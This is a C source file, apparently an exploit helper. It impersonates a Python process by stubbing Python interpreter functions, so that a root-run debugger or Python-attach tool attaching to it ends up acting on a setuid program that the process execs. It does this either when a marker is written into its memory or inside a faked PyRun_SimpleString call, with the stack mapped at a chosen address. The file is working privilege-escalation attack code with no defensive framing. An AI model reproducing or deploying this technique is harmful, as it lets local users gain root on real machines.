/* A process that looks like Python to root who attaches, and becomes VICTIM, a setuid program of root's. Which function is
   which address is said when it is linked: an address of VICTIM's for some.

   usage: becomes_setuid VICTIM          at once, when the text of the call is written behind its last variable
          becomes_setuid VICTIM STACK    in the call itself, with its stack at an address of VICTIM's */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <ucontext.h>
#include <unistd.h>

enum { STACK_BYTES = 1 << 16 };

extern char _end[];
char variable[64] = {1};
static char *victim;

#ifdef IN_THE_CALL
int Py_IsInitialized(void) { return 1; }
int PyGILState_Check(void) { return 0; }
int PyGILState_Ensure(void) { return 7; }
int Py_AddPendingCall(void *function, void *argument) { return function == argument; }
int PyRun_SimpleString(const char *text) {
  int ends[2];
  (void)text;
  if (pipe(ends) == 0) {
    /* Nobody reads what the program says: SIGPIPE stops it while gdb waits for this call. */
    dup2(ends[1], 1);
    close(ends[0]);
    close(ends[1]);
    execl(victim, victim, NULL);
  }
  return 0;
}
#endif

static void waits(void) {
  for (;;)
    pause();
}

int main(int count, char **words) {
  victim = words[1];
  printf("ready %d\n", getpid());
  fflush(stdout);
  if (count > 2) {
    static ucontext_t here, there;
    char *stack = (char *)strtoul(words[2], NULL, 16);
    if (mmap(stack, STACK_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != stack)
      return 2;
    getcontext(&there);
    there.uc_stack.ss_sp = stack;
    there.uc_stack.ss_size = STACK_BYTES;
    there.uc_link = &here;
    makecontext(&there, waits, 0);
    swapcontext(&here, &there);
    return 2;
  }
  volatile char *text = (char *)(((unsigned long)_end + 15) & ~15UL);
  while (*text == 0)
    usleep(500);
  /* Nobody reads its output any more: by SIGPIPE it would end too early. */
  dup2(2, 1);
  execl(victim, victim, NULL);
  return 2;
}
